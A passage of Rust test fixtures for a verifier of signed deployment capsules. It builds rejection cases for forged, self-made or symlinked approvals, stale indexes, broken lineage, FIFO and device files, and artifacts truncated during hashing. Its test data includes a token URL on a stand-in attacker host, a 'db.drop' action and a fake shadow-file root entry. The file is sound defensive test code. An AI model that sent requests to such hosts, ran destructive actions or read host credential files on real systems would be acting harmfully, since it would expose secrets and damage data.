                    serde_json::to_vec(&w.approval_payload(&other, "security")).expect("json");
                w.put_approval(
                    &dir,
                    "bob-security",
                    &w.sign_es(w.approver_key(BOB), &stale),
                );
                plain(dir)
            })
        },
    },
    Case {
        name: "approval-by-a-key-no-approver-holds",
        reason: Reason::ApprovalInvalid,
        build: |w, n| {
            governed(w, {
                let dir = w.approved_production_capsule(n);
                let payload =
                    serde_json::to_vec(&w.approval_payload(&dir, "security")).expect("json");
                w.put_approval(&dir, "bob-security", &w.sign_es(&w.other, &payload));
                plain(dir)
            })
        },
    },
    Case {
        name: "approval-in-a-role-the-approver-lacks",
        reason: Reason::ApprovalInvalid,
        build: |w, n| {
            governed(w, {
                let dir = w.capsule(n, &w.governed_manifest("production"), Signer::Es256);
                w.approve(&dir, ALICE, "security");
                w.approve(&dir, BOB, "security");
                plain(dir)
            })
        },
    },
    Case {
        name: "approval-twice-by-one-approver",
        reason: Reason::ApprovalInvalid,
        build: |w, n| {
            governed(w, {
                let dir = w.approved_production_capsule(n);
                let payload =
                    serde_json::to_vec(&w.approval_payload(&dir, "sre-lead")).expect("json");
                w.put_approval(
                    &dir,
                    "alice-again",
                    &w.sign_es(w.approver_key(ALICE), &payload),
                );
                plain(dir)
            })
        },
    },
    Case {
        name: "approval-symlinked-in",
        reason: Reason::ApprovalInvalid,
        build: |w, n| {
            governed(w, {
                let dir = w.approved_production_capsule(n);
                let real = dir.join("approvals/bob-security.jws");
                let moved = w.path(&format!("{n}-bob.jws"));
                fs::rename(&real, &moved).expect("mv");
                symlink(&moved, &real).expect("symlink");
                plain(dir)
            })
        },
    },
    Case {
        name: "approval-by-the-author-does-not-count",
        reason: Reason::ApprovalInsufficient,
        build: |w, n| {
            governed(w, {
                let dir = w.capsule(n, &w.governed_manifest("production"), Signer::Es256);
                w.approve(&dir, ALICE, "sre-lead");
                w.approve(&dir, PLANNER, "security");
                plain(dir)
            })
        },
    },
    Case {
        name: "approval-by-the-capsule-signer-does-not-count",
        reason: Reason::ApprovalInsufficient,
        build: |w, n| {
            governed(w, {
                let dir = w.capsule(n, &w.governed_manifest("production"), Signer::Es256);
                w.approve(&dir, ALICE, "sre-lead");
                w.approve(&dir, REL, "security");
                plain(dir)
            })
        },
    },
    Case {
        name: "approvals-missing-a-required-role",
        reason: Reason::ApprovalInsufficient,
        build: |w, n| {
            governed(w, {
                let dir = w.capsule(n, &w.governed_manifest("production"), Signer::Es256);
                w.approve(&dir, ALICE, "sre-lead");
                w.approve(&dir, CAROL, "sre-lead");
                plain(dir)
            })
        },
    },
    Case {
        name: "unsigned-approvals-where-signed-are-required",
        reason: Reason::ApprovalInsufficient,
        build: |w, n| {
            governed(w, {
                let mut m = w.governed_manifest("production");
                m["approvals"] = json!([
                    {"approver": ALICE, "role": "sre-lead", "approved_at": w.now - 300},
                    {"approver": BOB, "role": "security", "approved_at": w.now - 300},
                ]);
                plain(w.capsule(n, &m, Signer::Es256))
            })
        },
    },
    Case {
        name: "scope-target-outside-the-production-rule",
        reason: Reason::ScopeViolation,
        build: |w, n| {
            governed(
                w,
                approved_production_with(w, n, |m| {
                    m["scope"]["targets"] = json!(["https://auth.prod.acme.example.evil/token"])
                }),
            )
        },
    },
    Case {
        name: "scope-action-outside-the-production-rule",
        reason: Reason::ScopeViolation,
        build: |w, n| {
            governed(
                w,
                approved_production_with(w, n, |m| {
                    m["scope"]["actions"] = json!(["http.post", "db.drop"])
                }),
            )
        },
    },
    Case {
        name: "tier-kata-required-on-a-gvisor-host",
        reason: Reason::TierUnavailable,
        build: |w, n| {
            governed(
                w,
                plain(w.capsule(n, &w.governed_manifest("fortress"), Signer::Es256)),
            )
        },
    },
    Case {
        name: "lineage-parent-is-not-the-admitted-predecessor",
        reason: Reason::LineageBroken,
        build: |w, n| {
            governed(w, {
                let mut v6 = w.manifest();
                v6["version"] = json!(6);
                let prior = w.capsule(&format!("{n}-prior"), &v6, Signer::Es256);
                Setup {
                    prior: Prior::Admitted(prior),
                    ..plain(w.good_capsule(n, Signer::Es256))
                }
            })
        },
    },
    Case {
        name: "lineage-version-1-with-a-parent",
        reason: Reason::LineageBroken,
        build: |w, n| with_manifest(w, n, |m| m["version"] = json!(1)),
    },
    Case {
        name: "index-expired",
        reason: Reason::IndexStale,
        build: |w, n| {
            governed(w, {
                let dir = w.capsule(n, &w.governed_manifest("staging"), Signer::Es256);
                let index = w.index(
                    &format!("{n}.index.jws"),
                    &w.index_payload(GOVERNED, 3, w.now - 3600, &[]),
                );
                Setup {
                    index: Some(index),
                    ..plain(dir)
                }
            })
        },
    },
    Case {
        name: "index-required-and-missing",
        reason: Reason::IndexStale,
        build: |w, n| governed(w, with_manifest(w, n, |m| m["tenant"] = json!(INDEXED))),
    },
    Case {
        name: "index-older-than-one-already-seen",
        reason: Reason::IndexStale,
        build: |w, n| {
            governed(w, {
                let far = w.now + 86_400;
                let prior = w.capsule(
                    &format!("{n}-prior"),
                    &w.governed_manifest("staging"),
                    Signer::Es256,
                );
                let mut m = w.governed_manifest("staging");
                m["capsule_id"] = json!("another-capsule");
                let dir = w.capsule(n, &m, Signer::Es256);
                let newer = w.index(
                    &format!("{n}.v5.index.jws"),
                    &w.index_payload(GOVERNED, 5, far, &[]),
                );
                let older = w.index(
                    &format!("{n}.v4.index.jws"),
                    &w.index_payload(GOVERNED, 4, far, &[]),
                );
                Setup {
                    prior: Prior::Admitted(prior),
                    prior_index: Some(newer),
                    index: Some(older),
                    ..plain(dir)
                }
            })
        },
    },
    Case {
        name: "superseded-by-the-tenant-index",
        reason: Reason::Superseded,
        build: |w, n| {
            governed(w, {
                let dir = w.capsule(n, &w.governed_manifest("staging"), Signer::Es256);
                let entry = (
                    "prod-token-rotation",
                    8,
                    format!("sha256:{}", "cd".repeat(32)),
                );
                let index = w.index(
                    &format!("{n}.index.jws"),
                    &w.index_payload(GOVERNED, 3, w.now + 3600, &[entry]),
                );
                Setup {
                    index: Some(index),
                    ..plain(dir)
                }
            })
        },
    },
];

/// The content of a host file a capsule points at; no output may contain it or its
/// sha256 (the CLI tests check every fixture's output for both).
pub const HOST_SECRET: &[u8] =
    b"root:$6$host-secret-not-for-capsules$0123456789abcdef:19000:0:99999:7:::\n";

/// A host file outside every capsule, holding [`HOST_SECRET`].
pub fn host_secret(w: &World) -> PathBuf {
    let p = w.path("host/shadow");
    if !p.exists() {
        w.write("host/shadow", HOST_SECRET);
    }
    p
}

/// A good capsule whose `capsule.jws` is removed and replaced by `make`.
fn jws_replaced(w: &World, n: &str, make: fn(&World, &std::path::Path)) -> Setup {
    let s = plain(w.good_capsule(n, Signer::Es256));
    let p = s.capsule.join("capsule.jws");
    fs::remove_file(&p).expect("rm");
    make(w, &p);
    s
}

/// The author approving their own capsule as `approver`.
fn self_approval_as(w: &World, n: &str, approver: &str) -> Setup {
    with_manifest(w, n, |m| m["approvals"][0]["approver"] = json!(approver))
}

pub fn mkfifo(p: &std::path::Path) {
    let status = std::process::Command::new("mkfifo")
        .arg(p)
        .status()
        .expect("mkfifo (Debian package coreutils)");
    assert!(status.success(), "mkfifo {}", p.display());
}

/// A character device like `/dev/zero` (1, 5). Needs CAP_MKNOD (the tests run as root,
/// as the sandbox tests do).
pub fn mknod_dev_zero(p: &std::path::Path) {
    let status = std::process::Command::new("mknod")
        .arg(p)
        .args(["c", "1", "5"])
        .status()
        .expect("mknod (Debian package coreutils)");
    assert!(
        status.success(),
        "mknod {} c 1 5: needs root (CAP_MKNOD)",
        p.display()
    );
}

/// Size of the artifact truncated while it is hashed: large enough that hashing
/// takes tens of milliseconds, so a truncation lands in the middle.
pub const BIG_ARTIFACT_BYTES: usize = 256 << 20;

pub fn big_artifact() -> Vec<u8> {
    (0..BIG_ARTIFACT_BYTES)
        .map(|i| (i.wrapping_mul(2_654_435_761) >> 13).to_le_bytes()[0])
        .collect()
}

/// The name of the redb file inside a `--state` directory (shared with the gateway).
pub const STATE_FILE: &str = "rollback.redb";

/// Runs `attempt` while another thread truncates `file` to half its size a little
/// after the start, restoring the file before each try, until the verifier reports
/// `artifact_changed` (a truncation that lands before the size check gives
/// `artifact_size_mismatch`, one after the hash an admission: both are retried with
/// another delay). Returns every reason seen, last one last.
pub fn truncate_while<T>(
    file: &std::path::Path,
    mut attempt: impl FnMut() -> T,
    reason_of: impl Fn(&T) -> Option<Reason>,
) -> Vec<Option<Reason>> {
    let original = big_artifact();
    let mut seen = Vec::new();
    for delay_ms in [5u64, 15, 30, 50, 80, 120, 2, 10, 20, 40, 60, 100] {
        fs::write(file, &original).expect("restore artifact");
        let path = file.to_path_buf();
        let cutter = std::thread::spawn(move || {
            std::thread::sleep(std::time::Duration::from_millis(delay_ms));
            let f = fs::OpenOptions::new()
                .write(true)
                .open(&path)
                .expect("open to truncate");
            f.set_len((BIG_ARTIFACT_BYTES / 2) as u64)
                .expect("truncate");
        });
        let outcome = attempt();
        cutter.join().expect("cutter thread");
        let reason = reason_of(&outcome);
        seen.push(reason);
        if reason == Some(Reason::ArtifactChanged) {
            break;
        }
    }
    seen
}

/// A process blocked opening a FIFO for writing: it stays blocked until something
/// opens the FIFO for reading. Tests use it to show that a FIFO was never opened.
#[derive(Debug)]
pub struct BlockedWriter {
    child: std::process::Child,
}

impl BlockedWriter {
    /// Starts `sh -c 'echo released > FIFO'` and waits (up to 10 s) until it sleeps
    /// in the kernel's FIFO open.
    pub fn start(fifo: &std::path::Path) -> BlockedWriter {
        let child = std::process::Command::new("sh")
            .args(["-c", "echo released > \"$1\"", "sh"])
            .arg(fifo)
            .spawn()
            .expect("sh (Debian package dash)");
        let w = BlockedWriter { child };
        let end = std::time::Instant::now() + std::time::Duration::from_secs(10);
        while !w.is_blocked() {
            assert!(
                std::time::Instant::now() < end,
                "the writer never blocked on {}",
                fifo.display()
            );
            std::thread::sleep(std::time::Duration::from_millis(5));
        }
        w
    }

    /// Still waiting for a reader.
    pub fn is_blocked(&self) -> bool {
        let wchan = fs::read_to_string(format!("/proc/{}/wchan", self.child.id()));
        wchan.is_ok_and(|w| w.trim() == "wait_for_partner")
    }

    /// Opens the FIFO for reading and checks that this releases the writer, which
    /// proves [`BlockedWriter::is_blocked`] can see the difference.
    pub fn release(mut self, fifo: &std::path::Path) {
        use std::io::Read;
        let mut r = fs::File::open(fifo).expect("open FIFO for reading");
        let mut got = String::new();
        r.read_to_string(&mut got).expect("read FIFO");
        assert_eq!(got, "released\n");
        let status = self.child.wait().expect("writer exits");
        assert!(status.success());
    }
}

impl Drop for BlockedWriter {
    fn drop(&mut self) {
        if let Ok(None) = self.child.try_wait() {
            let _ = self.child.kill();
            let _ = self.child.wait();
        }
    }
}
